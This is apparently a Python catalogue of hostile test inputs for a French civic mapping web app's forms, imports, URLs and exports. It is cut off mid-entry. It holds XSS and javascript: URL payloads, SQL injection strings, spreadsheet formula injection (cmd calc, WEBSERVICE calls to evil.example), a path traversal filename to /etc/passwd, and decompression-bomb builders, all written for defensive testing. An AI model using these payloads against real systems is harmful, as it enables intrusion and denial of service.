"""The catalogue of hostile and broken inputs, and what must happen to each.

Every :class:`Case` has an id, the **channel** it goes through and the expected
**outcome**; its payload is built on demand (10 MB strings and decompression bombs
are generated, never stored in the repository). Small text files live in
``tests/fixtures/hostile/``.

Channels:

* ``formulaire``: the contribution form of ``/contribuer`` (AppTest, signed in);
* ``import_actions``: a file for the bulk import of actions (``preview`` and the
  upload of ``/import``);
* ``import_indicateurs``: a file for the indicator import (``prepare_import`` and the
  upload of ``/import-indicateurs``);
* ``url``: query parameters, given to **every** page (:data:`PAGES`);
* ``export``: texts stored in actions, then exported as CSV, XLSX and GeoJSON;
* ``navigateur``: texts rendered by Chromium (map popups, shapes, action page,
  guide, moderation queue) or a source address given at load time.

Outcomes: ``enregistre`` (accepted, stored exactly as cleaned), ``refuse`` (a French
message names the field), ``fichier_refuse`` (the whole file is refused with a French
message, nothing read, nothing written), ``lignes`` (the file is read: rows in =
accepted + rejected, each rejected row with a French reason; ``counts`` gives them),
``ignore`` (the page shows, garbage ignored or a French message), ``neutralise``
(no spreadsheet formula survives the export), ``inerte`` (nothing runs in the browser).
"""
from __future__ import annotations

import csv
import functools
import io
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from data import textes

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
CHANNELS = ("formulaire", "import_actions", "import_indicateurs", "url", "export", "navigateur")
OUTCOMES = ("enregistre", "refuse", "fichier_refuse", "lignes", "ignore", "neutralise", "inerte")
MB = 1024 * 1024

#: Every page of the atlas and its script, for the ``url`` channel.
PAGES = {
    "/": "app_pages/carte.py",
    "/action": "app_pages/action.py",
    "/fiche": "app_pages/fiche.py",
    "/territoire": "app_pages/territoire.py",
    "/comparer": "app_pages/comparer.py",
    "/contribuer": "app_pages/contribuer.py",
    "/moderation": "app_pages/moderation.py",
    "/import-indicateurs": "app_pages/import_indicateurs.py",
    "/import": "app_pages/import_actions.py",
    "/guide": "app_pages/guide.py",
    "/brouillons": "app_pages/brouillons.py",
    "/indicateurs": "app_pages/indicateurs.py",
    "/a-propos": "app_pages/a_propos.py",
    "/connexion": "app_pages/connexion.py",
    "/comptes": "app_pages/comptes.py",
}
#: Every query parameter a page reads (pages ignore the others).
URL_KEYS = (
    "id", "numero", "code", "codes", "brouillon", "action", "region", "departement", "epci", "commune",
    "fiche", "methode", "public", "annee_min", "annee_max", "texte", "niveau", "indicateur", "classes",
)
#: The strings a browser must show as text, never run (``javascript:`` is refused at load).
BROWSER_PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "`${alert(4)}`",
    "javascript:alert(5)",
)


@dataclass(frozen=True)
class Case:
    """One hostile input, its channel and what must happen."""

    id: str
    channel: str
    input: str
    expected: str
    outcome: str
    payload: Callable[[], Any]
    counts: tuple[int, int, int] | None = None  # (read, accepted, rejected) of a file that is read
    message: str | None = None  # the French message of a refused file (exact, or its start)
    fields: tuple[str, ...] = ()  # form fields that must carry an error (``refuse``)
    stored: dict[str, Any] = field(default_factory=dict)  # form fields as they must be stored
    options: dict[str, str] = field(default_factory=dict)  # indicator import options

    @property
    def size(self) -> int:
        """Bytes of a file payload (0 for others)."""
        payload = self.payload()
        return len(payload[1]) if isinstance(payload, tuple) and isinstance(payload[1], bytes) else 0


# --- builders ------------------------------------------------------------------------------


def fixture(name: str) -> Callable[[], tuple[str, bytes]]:
    """A payload read from ``tests/fixtures/hostile``."""
    return lambda: (name, (FIXTURES / name).read_bytes())


def csv_bytes(rows: list[list[Any]], encoding: str = "utf-8-sig", delimiter: str = ";") -> bytes:
    """Rows as a CSV file (Excel in French by default)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


ACTION_HEADER = ["identifiant", "titre", "resume", "code_commune"]


def good_row(n: int) -> list[str]:
    """A valid action row (Mézin)."""
    return [f"ok-{n}", f"Action valide {n}", "Un résumé valide.", "47167"]


def _zip_member(name: str, data: bytes | None = None, *, size: int = 0, filler: bytes = b" ",
                head: bytes = b"", tail: bytes = b"") -> tuple[str, bytes, int, int]:
    """(name, raw deflate data, crc32, uncompressed size) of one ZIP member.

    With ``data=None`` the member is ``head`` + ``size`` bytes of ``filler`` + ``tail``,
    deflated by repeating one independently flushed 1 MB block (fast to build, a real
    decompression bomb when inflated).
    """
    if data is not None:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        return name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)
    chunk = filler * MB
    block_maker = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = block_maker.compress(chunk) + block_maker.flush(zlib.Z_FULL_FLUSH)
    parts = []
    start = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts.append(start.compress(head) + start.flush(zlib.Z_FULL_FLUSH))
    crc = zlib.crc32(head)
    for _ in range(size // MB):
        parts.append(block)
        crc = zlib.crc32(chunk, crc)
    end = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts.append(end.compress(tail) + end.flush())
    crc = zlib.crc32(tail, crc)
    return name, b"".join(parts), crc, len(head) + (size // MB) * MB + len(tail)


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP archive from already deflated members (what ``zipfile`` would write)."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size in members:
        encoded = name.encode("utf-8")
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0))
        out.write(encoded)
        out.write(data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                        len(encoded), 0, 0, 0, 0, 0, offset) + encoded
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="actions" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
SHEET_OPEN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


@dataclass(frozen=True)
class Formula:
    """A formula cell: its text and the value Excel computed last (None: never computed)."""

    text: str
    cached: Any = None


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _cell(ref: str, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Formula):
        if value.cached is None:
            return f'<c r="{ref}"><f>{_xml(value.text)}</f></c>'
        if isinstance(value.cached, str):
            return f'<c r="{ref}" t="str"><f>{_xml(value.text)}</f><v>{_xml(value.cached)}</v></c>'
        return f'<c r="{ref}"><f>{_xml(value.text)}</f><v>{value.cached}</v></c>'
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_xml(str(value))}</t></is></c>'


def sheet_xml(rows: list[tuple[int, list[tuple[int, Any]]]], dimension: str | None = None) -> str:
    """Worksheet XML from (row number, [(column number, value)]) pairs."""
    from openpyxl.utils import get_column_letter

    parts = [SHEET_OPEN]
    if dimension:
        parts.append(f'<dimension ref="{dimension}"/>')
    parts.append("<sheetData>")
    for number, cells in rows:
        parts.append(f'<row r="{number}">')
        parts.extend(_cell(f"{get_column_letter(col)}{number}", value) for col, value in cells)
        parts.append("</row>")
    parts.append("</sheetData></worksheet>")
    return "".join(parts)


def xlsx_bytes(rows: list[list[Any]] | None = None, *, sheet: str | bytes | None = None, dimension: str | None = None,
               big_sheet: int = 0, extra: list[tuple[str, bytes, int, int]] | None = None) -> bytes:
    """A minimal XLSX workbook (what a spreadsheet writes, reduced to the parts openpyxl reads).

    ``rows`` are written from A1; ``sheet`` replaces the sheet XML; ``big_sheet`` pads
    the sheet with that many bytes of blanks between two rows (a decompression bomb).
    """
    if sheet is None:
        numbered = [(i, list(enumerate(row, start=1))) for i, row in enumerate(rows or [], start=1)]
        sheet = sheet_xml(numbered, dimension)
    sheet_data = sheet.encode("utf-8") if isinstance(sheet, str) else sheet
    members = [
        _zip_member("[Content_Types].xml", _CONTENT_TYPES.encode()),
        _zip_member("_rels/.rels", _ROOT_RELS.encode()),
        _zip_member("xl/workbook.xml", _WORKBOOK.encode()),
        _zip_member("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.encode()),
    ]
    if big_sheet:
        cut = sheet_data.index(b"</sheetData>")
        members.append(_zip_member("xl/worksheets/sheet1.xml", size=big_sheet, head=sheet_data[:cut], tail=sheet_data[cut:]))
    else:
        members.append(_zip_member("xl/worksheets/sheet1.xml", sheet_data))
    return raw_zip(members + (extra or []))


@functools.lru_cache(maxsize=None)
def bomb_xlsx(megabytes: int) -> bytes:
    """An XLSX of a few hundred KB whose sheet inflates to ``megabytes`` MB."""
    return xlsx_bytes([["titre", "resume", "code_commune"], ["Bombe", "x", "47167"]], big_sheet=megabytes * MB)


def ten_megabytes(char: str = "A") -> str:
    """A 10 MB string."""
    return char * (10 * MB)


def formulas_xlsx() -> bytes:
    """Actions whose cells are formulas (with and without a computed value) or texts starting with '='."""
    return xlsx_bytes([
        ["identifiant", "titre", "resume", "porteurs", "code_commune"],
        ["xf-1", Formula('HYPERLINK("http://evil.example";"clic")', "clic"), Formula("1+1", 2), Formula("A1&B1", "xf-1Texte"), "47167"],
        ["xf-2", "=cmd|' /C calc'!A0", "=1+1 écrit comme texte", "@SUM(1;1)", Formula("47000+167", 47167)],
        ["xf-3", Formula('CONCAT("=";"1+1")'), "Titre calculé jamais enregistré par Excel", "", "47001"],
        ["xf-4", "+1+1 titre", Formula("WEBSERVICE(\"http://evil.example\")", "#VALUE!"), "-1", "86194"],
    ])


def geojson_bytes(doc: Any) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def feature(name: str, geometry: Any, **props: Any) -> dict[str, Any]:
    return {"type": "Feature", "properties": {"name": name, "description": "Un résumé.", **props}, "geometry": geometry}


def big_line_geojson(positions: int) -> bytes:
    """A FeatureCollection with one valid point and one LineString of ``positions`` positions."""
    coords = ",".join(f"[{0.2 + (i % 1000) * 1e-5:.5f},{44.0 + (i // 1000) * 1e-5:.5f}]" for i in range(positions))
    return (
        '{"type":"FeatureCollection","features":['
        + json.dumps(feature("Point valide", {"type": "Point", "coordinates": [0.2654, 44.0567]}), ensure_ascii=False)
        + ',{"type":"Feature","properties":{"name":"Ligne géante","description":"x"},'
        + '"geometry":{"type":"LineString","coordinates":[' + coords + "]}}]}"
    ).encode("utf-8")


def each(values: list[str]) -> list[dict[str, str]]:
    """One address per value (every parameter set to it), then all values repeated: a
    page reads the last value of a repeated parameter, so each must come last once."""
    return [{k: value for k in URL_KEYS} for value in values] + [{k: list(values) for k in URL_KEYS}]


# --- the catalogue -----------------------------------------------------------------------------

C: list[Case] = []


def case(*args: Any, **kwargs: Any) -> None:
    C.append(Case(*args, **kwargs))


# Contribution form ------------------------------------------------------------------------------
F = "formulaire"
case("F01", F, "titre <img src=x onerror=alert(1)>", "stored as typed, shown as text", "enregistre",
     lambda: {"titre": "<img src=x onerror=alert(1)>"}, stored={"titre": "<img src=x onerror=alert(1)>"})
case("F02", F, "résumé <script>alert(2)</script> and a Markdown javascript: link", "stored as typed", "enregistre",
     lambda: {"resume": "<script>alert(2)</script> [clic](javascript:alert(2)) **gras**"},
     stored={"resume": "<script>alert(2)</script> [clic](javascript:alert(2)) **gras**"})
case("F03", F, 'porteurs "><svg onload=alert(3)> and <b>', "stored as typed, one per line", "enregistre",
     lambda: {"porteurs": '"><svg onload=alert(3)>\nCentre social <b>gras</b>'},
     stored={"porteurs": ('"><svg onload=alert(3)>', "Centre social <b>gras</b>")})
case("F04", F, "contact (structure) `${alert(4)}` and </div>", "stored as typed", "enregistre",
     lambda: {"contact_structure": "`${alert(4)}` </div>"}, stored={"contact_structure": "`${alert(4)}` </div>"})
case("F05", F, "source title <img src=x onerror=alert(1)>", "stored as typed", "enregistre",
     lambda: {"sources": "https://example.org/a <img src=x onerror=alert(1)>"},
     stored={"sources": (("https://example.org/a", "<img src=x onerror=alert(1)>"),)})
case("F06", F, "source javascript:alert(5)", "refused: only http(s) addresses", "refuse",
     lambda: {"sources": "javascript:alert(5)"}, fields=("sources",))
case("F07", F, "source JaVaScRiPt:alert(5)", "refused whatever the case", "refuse",
     lambda: {"sources": "JaVaScRiPt:alert(5) Titre"}, fields=("sources",))
case("F08", F, "source prefixed with blanks and control characters (\\x01 \\t javascript:)", "refused", "refuse",
     lambda: {"sources": "  \x01\x02\tjavascript:alert(5)"}, fields=("sources",))
case("F09", F, "source vbscript:msgbox(5)", "refused", "refuse",
     lambda: {"sources": "vbscript:msgbox(5)"}, fields=("sources",))
case("F10", F, "source data:text/html;base64,… and data:image/svg+xml", "refused", "refuse",
     lambda: {"sources": "data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==\ndata:image/svg+xml,<svg/onload=alert(5)>"},
     fields=("sources",))
case("F11", F, "titre of 10 MB (a client bypassing the browser's 200-character limit)",
     "the widget keeps 200 characters on the server (validation alone refuses 10 MB), page intact", "enregistre",
     lambda: {"titre": ten_megabytes()}, stored={"titre": "A" * 200})
case("F12", F, "résumé of 10 MB (5 M « é ») and porteurs of 10 MB", "the widgets keep 3,000 / 5,000 characters; "
     "porteurs refused (a line longer than 200 characters)", "refuse",
     lambda: {"resume": "é" * (5 * MB), "porteurs": ten_megabytes("p")}, fields=("porteurs",))
case("F13", F, "emoji, Arabic and an RTL override U+202E in the title", "stored, override removed", "enregistre",
     lambda: {"titre": "Jardin 🌱 \u202eحديقة مشتركة 👩‍👧", "porteurs": "Collectif \u202e1 🌻"},
     stored={"titre": "Jardin 🌱 حديقة مشتركة 👩‍👧", "porteurs": ("Collectif 1 🌻",)})
case("F14", F, "NUL bytes in the summary and title", "stored without the NUL bytes", "enregistre",
     lambda: {"titre": "Atelier\x00 nul", "resume": "Avant\x00après\x00."},
     stored={"titre": "Atelier nul", "resume": "Avantaprès."})
case("F15", F, "SQL in the title: '; DROP TABLE actions; --", "stored as text, one action more", "enregistre",
     lambda: {"titre": "'; DROP TABLE actions; --", "contact_structure": "\" OR 1=1 --"},
     stored={"titre": "'; DROP TABLE actions; --", "contact_structure": "\" OR 1=1 --"})
case("F16", F, "formulas in the title and porteurs (=HYPERLINK, =cmd|' /C calc'!A0)", "stored as text, neutralised in exports",
     "enregistre",
     lambda: {"titre": '=HYPERLINK("http://evil.example";"clic")', "porteurs": "=cmd|' /C calc'!A0\n@SUM(1;1)"},
     stored={"titre": '=HYPERLINK("http://evil.example";"clic")', "porteurs": ("=cmd|' /C calc'!A0", "@SUM(1;1)")})
case("F17", F, "e-mail <script>@x.fr and phone with markup", "refused", "refuse",
     lambda: {"contact_email": "<script>@x.fr", "contact_telephone": "+33 6 12 34 56 78<script>"},
     fields=("contact_email", "contact_telephone"))
case("F18", F, "dates 31/02/2025 and 9999-99-99", "refused with the format", "refuse",
     lambda: {"date_debut": "31/02/2025", "date_fin": "9999-99-99"}, fields=("date_debut", "date_fin"))
case("F19", F, "coordinates NaN, inf, 91/181, 1e308, words, Lambert 93", "each refused with a French message",
     "refuse",
     lambda: [("NaN", "NaN"), ("inf", "-inf"), ("91", "181"), ("1e308", "1e308"), ("quarante", "deux"),
              ("6600000", "500000"), ("0", "0")],
     fields=("lieu",))
case("F20", F, "place search <script>, 99999 and a former INSEE code", "« no commune found » in French", "refuse",
     lambda: ["<script>alert(1)</script>", "99999", "01039", "' OR 1=1 --", ten_megabytes()[:100]], fields=("lieu",))

# Bulk import of actions ----------------------------------------------------------------------------
A = "import_actions"
case("A01", A, "CSV with HTML/JS in every text column (title, summary, porteurs, contact, source titles)",
     "every row accepted, texts stored as typed", "lignes", fixture("actions_html_js.csv"), counts=(5, 5, 0))
case("A02", A, "CSV sources javascript:, JaVaScRiPt:, blank/control-prefixed, vbscript:, data:, //, file:",
     "each row rejected (only http(s)); the valid one accepted", "lignes", fixture("actions_urls_dangereuses.csv"),
     counts=(12, 1, 11))
case("A03", A, "CSV formulas =HYPERLINK, =cmd|' /C calc'!A0, +, -, @, tab and CR prefixes, '= already quoted",
     "accepted, stored as text (neutralised by the exports)", "lignes", fixture("actions_formules.csv"), counts=(4, 4, 0))
case("A04", A, "CSV coordinates NaN, inf, out of range, 1e308, words (one or both), DMS, Null Island, swapped, "
     "Lambert 93, empty", "each rejected with a French reason; two valid points accepted", "lignes",
     fixture("actions_coordonnees.csv"), counts=(19, 2, 17))
case("A05", A, "CSV INSEE codes unknown, Corsica as 20, letters, HTML, former (merged) codes, unknown level",
     "rejected with a French reason (a former code names the current commune); valid codes accepted", "lignes",
     fixture("actions_codes_insee.csv"), counts=(14, 4, 10))
case("A06", A, "CSV emoji, Arabic, Hebrew, RTL override, NFD accents, invisible characters, zalgo, long texts",
     "accepted; override and invisible controls removed, accents composed", "lignes", fixture("actions_unicode.csv"),
     counts=(8, 8, 0))
case("A07", A, "CSV in Windows-1252 with accents, œ and €", "read as Windows-1252, accents kept", "lignes",
     fixture("actions_windows1252.csv"), counts=(2, 2, 0))
case("A08", A, "CSV in UTF-16 LE with BOM (Excel « texte Unicode »)", "read", "lignes",
     lambda: ("utf16le.csv", csv_bytes([ACTION_HEADER, good_row(1), ["u16-2", "Été à l’école", "Œuvre.", "47001"]], "utf-16")),
     counts=(2, 2, 0))
case("A09", A, "CSV in UTF-16 BE with BOM", "read", "lignes",
     lambda: ("utf16be.csv", b"\xfe\xff" + "\r\n".join(";".join(r) for r in [ACTION_HEADER, good_row(1)]).encode("utf-16-be")),
     counts=(1, 1, 0))
case("A10", A, "CSV in UTF-16 without BOM", "refused: format not recognised", "fichier_refuse",
     lambda: ("utf16-sans-bom.csv", "\r\n".join(";".join(r) for r in [ACTION_HEADER, good_row(1)]).encode("utf-16-le")),
     message=textes.IMPORT_ACT_FORMAT_INCONNU)
case("A11", A, "CSV in UTF-8 with accents and one invalid byte (\\xff) on line 3", "refused, the line is named",
     "fichier_refuse",
     lambda: ("utf8-casse.csv", csv_bytes([ACTION_HEADER, good_row(1)], "utf-8") + b"ko;\xffT\xc3\xa9\xff;r;47167\r\n"),
     message=textes.HOSTILE_UTF8_CASSE.format(ligne=3))
case("A12", A, "CSV with a NUL byte in one cell", "that row rejected (NUL byte named), the other read", "lignes",
     lambda: ("nul.csv", csv_bytes([ACTION_HEADER, good_row(1), good_row(2)], "utf-8").replace(b"valide 1", b"valide\x001")),
     counts=(2, 1, 1))
case("A13", A, "CSV just over 10 MB (one 10 MB title)", "refused at once, before reading", "fichier_refuse",
     lambda: ("10mo.csv", csv_bytes([ACTION_HEADER, ["big", ten_megabytes(), "r", "47167"]], "utf-8")),
     message=textes.IMPORT_ACT_TROP_GROS.format(max=10))
case("A14", A, "CSV with a 9 MB title cell and a valid row", "the big row rejected (too long), the other accepted",
     "lignes", lambda: ("9mo.csv", csv_bytes([ACTION_HEADER, ["big", "T" * (9 * MB), "r", "47167"], good_row(1)], "utf-8")),
     counts=(2, 1, 1))
case("A15", A, "CSV with 10,000 columns", "refused at once", "fichier_refuse",
     lambda: ("10000-colonnes.csv", csv_bytes([ACTION_HEADER + [f"c{i}" for i in range(9996)], good_row(1) + ["x"] * 9996])),
     message=textes.IMPORT_ACT_TROP_DE_COLONNES.format(max=200))
case("A16", A, "CSV with 60,000 rows", "refused: too many rows", "fichier_refuse",
     lambda: ("60000-lignes.csv", csv_bytes([ACTION_HEADER] + [[f"r{i}", f"T{i}", "r", "47167"] for i in range(60_000)])),
     message=textes.IMPORT_ACT_TROP_DE_LIGNES.format(max=50_000))
case("A17", A, "empty file, blanks only", "refused: empty", "fichier_refuse",
     lambda: ("vide.csv", b" \r\n\t \r\n"), message=textes.IMPORT_ACT_VIDE)
case("A18", A, "CSV with the header only", "read: 0 rows, nothing written", "lignes",
     lambda: ("entete.csv", csv_bytes([ACTION_HEADER])), counts=(0, 0, 0))
case("A19", A, "CSV with an unbalanced quote", "the quote swallows the next line into its cell (CSV rules): that row is "
     "rejected with its reasons, its text shown; the others read", "lignes",
     lambda: ("guillemet.csv", csv_bytes([ACTION_HEADER, good_row(1)]) + b'ko;"Titre sans fin;r;47167\r\nok-3;T;r;47167\r\n'),
     counts=(2, 1, 1))
case("A20", A, "PNG image named .csv", "refused by its content", "fichier_refuse",
     lambda: ("image.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"), message=textes.IMPORT_ACT_FORMAT_INCONNU)
case("A21", A, "pickle (protocol 0, no NUL) named .csv", "never unpickled: read as text, rows rejected", "lignes",
     lambda: ("pickle.csv", b"(lp0\nI1\naS'os.system'\np1\na."), counts=(4, 0, 4))
case("A22", A, "old Excel .xls (OLE) renamed .csv", "refused with a hint", "fichier_refuse",
     lambda: ("ancien-excel.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512), message=textes.IMPORT_ACT_XLS_ANCIEN)
case("A23", A, "file name <img src=x onerror=alert(1)>/../../etc/passwd.csv", "never used as a path (read from memory)",
     "lignes",
     lambda: ("<img src=x onerror=alert(1)>/../../etc/passwd.csv", csv_bytes([ACTION_HEADER, good_row(1)])),
     counts=(1, 1, 0))
# XLSX
case("A24", A, "XLSX with formula cells (cached values or none) and texts starting with =, @, +, -",
     "values read, formulas never run; a formula never computed leaves the cell empty (row rejected)", "lignes",
     lambda: ("formules.xlsx", formulas_xlsx()), counts=(4, 3, 1))
case("A25", A, "XLSX bomb: 320 KB inflating to 300 MB", "refused before inflating", "fichier_refuse",
     lambda: ("bombe.xlsx", bomb_xlsx(300)), message=textes.HOSTILE_ZIP_TROP_GROS.format(max=100))
case("A26", A, "XLSX whose sheet inflates 1,000 times (60 MB of blanks)", "refused before inflating", "fichier_refuse",
     lambda: ("ratio.xlsx", bomb_xlsx(60)), message=textes.HOSTILE_ZIP_RATIO.format(ratio=100))
case("A27", A, "XLSX declaring A1:XFD1048576 for 3 filled rows", "dimension ignored, 2 rows read", "lignes",
     lambda: ("dimension.xlsx", xlsx_bytes([["titre", "resume", "code_commune"], ["Un", "r", "47167"], ["Deux", "r", "47001"]],
                                           dimension="A1:XFD1048576")),
     counts=(2, 2, 0))
case("A28", A, "XLSX with a cell in column XFD (16,384 columns)", "refused at once", "fichier_refuse",
     lambda: ("xfd.xlsx", xlsx_bytes(sheet=sheet_xml([(1, [(1, "titre"), (2, "resume"), (3, "code_commune"), (16384, "x")]),
                                                      (2, [(1, "T"), (2, "r"), (3, "47167")])]))),
     message=textes.IMPORT_ACT_TROP_DE_COLONNES.format(max=200))
case("A29", A, "XLSX with its last row at 1,048,576 (a million empty rows between)", "the far row is read, none lost",
     "lignes",
     lambda: ("loin.xlsx", xlsx_bytes(sheet=sheet_xml([(1, [(1, "titre"), (2, "resume"), (3, "code_commune")]),
                                                       (2, [(1, "Près"), (2, "r"), (3, "47167")]),
                                                       (1048576, [(1, "Loin"), (2, "r"), (3, "47001")])]))),
     counts=(2, 2, 0))
case("A30", A, "XLSX with broken XML in its sheet", "refused: unreadable", "fichier_refuse",
     lambda: ("casse.xlsx", xlsx_bytes(sheet=SHEET_OPEN + "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>titre")),
     message=textes.IMPORT_ACT_ILLISIBLE.format(detail=textes.HOSTILE_XLSX_ILLISIBLE))
case("A31", A, "ZIP that is not a workbook", "refused: format not recognised", "fichier_refuse",
     lambda: ("archive.xlsx", raw_zip([_zip_member("a.txt", b"bonjour")])), message=textes.IMPORT_ACT_FORMAT_INCONNU)
case("A32", A, "XLSX with 20,000 parts", "refused before reading", "fichier_refuse",
     lambda: ("parties.xlsx", xlsx_bytes([["titre"]], extra=[_zip_member(f"x/{i}.xml", b"<a/>") for i in range(20_000)])),
     message=textes.HOSTILE_ZIP_TROP_DE_PARTIES.format(max=10_000))
# GeoJSON / uMap
case("A33", A, "GeoJSON: strings, out-of-range, bow-tie (self-intersecting), unclosed ring, hole outside, "
     "GeometryCollection, unknown type, Lambert 93, text and boolean coordinates, a number as feature, "
     "properties as a list, wrong property types, HTML in name/description",
     "each bad geometry rejected with a French reason; valid ones (3D point, null geometry + INSEE code) accepted",
     "lignes", fixture("actions_geometries.geojson"), counts=(18, 6, 12))
case("A34", A, "GeoJSON with NaN/Infinity/1e999 coordinates, lone surrogates and NUL escapes",
     "bad coordinates rejected; surrogates and NUL removed from texts", "lignes", fixture("actions_geojson_nan.geojson"),
     counts=(6, 2, 4))
case("A35", A, "JSON nested 100,000 levels deep", "refused at once (depth checked before parsing)", "fichier_refuse",
     lambda: ("profond.geojson", b'{"type":"FeatureCollection","features":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
     message=textes.IMPORT_ACT_JSON_PROFOND.format(max=64))
case("A36", A, "GeoJSON LineString of 500,000 positions (9.5 MB)", "that row rejected (too many vertices) before shapely",
     "lignes", lambda: ("ligne-geante.geojson", big_line_geojson(500_000)), counts=(2, 1, 1))
case("A37", A, "GeoJSON with 60,000 features", "refused: too many rows", "fichier_refuse",
     lambda: ("60000-objets.geojson", geojson_bytes({"type": "FeatureCollection", "features": [
         {"type": "Feature", "properties": {}, "geometry": None}] * 60_000})),
     message=textes.IMPORT_ACT_TROP_DE_LIGNES.format(max=50_000))
case("A38", A, 'GeoJSON "features": 5 (a number)', "refused: GeoJSON expected", "fichier_refuse",
     lambda: ("features-nombre.geojson", b'{"type":"FeatureCollection","features":5}'), message=textes.IMPORT_ACT_GEOJSON_ATTENDU)
case("A39", A, 'uMap backup whose layer "features" is a number or an object', "refused: GeoJSON expected",
     "fichier_refuse",
     lambda: ("calques.umap", b'{"type":"umap","layers":[{"features":{"a":1}},{"features":7}]}'),
     message=textes.IMPORT_ACT_GEOJSON_ATTENDU)
case("A40", A, "truncated GeoJSON", "refused: unreadable JSON", "fichier_refuse",
     lambda: ("tronque.geojson", fixture("actions_geometries.geojson")()[1][:700]),
     message=textes.IMPORT_ACT_ILLISIBLE.format(detail="JSON"))
case("A41", A, "JSON holding a 5,000-digit integer", "refused: unreadable JSON", "fichier_refuse",
     lambda: ("entier.geojson", b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":'
              + b"9" * 5000 + b'},"geometry":null}]}'),
     message=textes.IMPORT_ACT_ILLISIBLE.format(detail="JSON"))
case("A42", A, "GeoJSON with 5,000 distinct property names", "refused: too many columns", "fichier_refuse",
     lambda: ("proprietes.geojson", geojson_bytes({"type": "FeatureCollection", "features": [
         {"type": "Feature", "properties": {f"p{i}": i for i in range(5000)}, "geometry": None}]})),
     message=textes.IMPORT_ACT_TROP_DE_COLONNES.format(max=200))

# Indicator import -------------------------------------------------------------------------------------
N = "import_indicateurs"
IND = {"nom": "Indicateur hostile", "unite": "nombre", "millesime": "2024"}
case("N01", N, "CSV formulas in codes, labels and values (=, +, -, @, tab)", "formulas never read as numbers; "
     "rows skipped with a French reason", "lignes", fixture("indicateurs_formules.csv"), counts=(7, 2, 5), options=IND)
case("N02", N, "CSV with HTML/JS in the title line, labels, codes and values; SQL in a label",
     "texts kept as text; bad codes/values skipped", "lignes", fixture("indicateurs_html.csv"), counts=(5, 3, 2), options=IND)
case("N03", N, "CSV values 1e999, -1e999, NaN, inf, 1e308, a 401-digit number (unit %)",
     "no infinity imported: each out-of-range or non-finite value skipped", "lignes", fixture("indicateurs_non_finis.csv"),
     counts=(7, 1, 6), options={**IND, "unite": "%"})
case("N04", N, "CSV codes unknown, 00000, Corsica as 20, letters, a former code, 2A, 4 digits, 47001.0, empty",
     "unknown codes listed, former code added to its commune, zeros restored", "lignes", fixture("indicateurs_codes.csv"),
     counts=(10, 5, 5), options=IND)
case("N05", N, "CSV in Windows-1252 with accents", "read, with a note", "lignes", fixture("indicateurs_windows1252.csv"),
     counts=(2, 2, 0), options=IND)
case("N06", N, "CSV in UTF-16", "refused: encoding", "fichier_refuse",
     lambda: ("utf16.csv", "code;valeur\r\n47;1\r\n".encode("utf-16")),
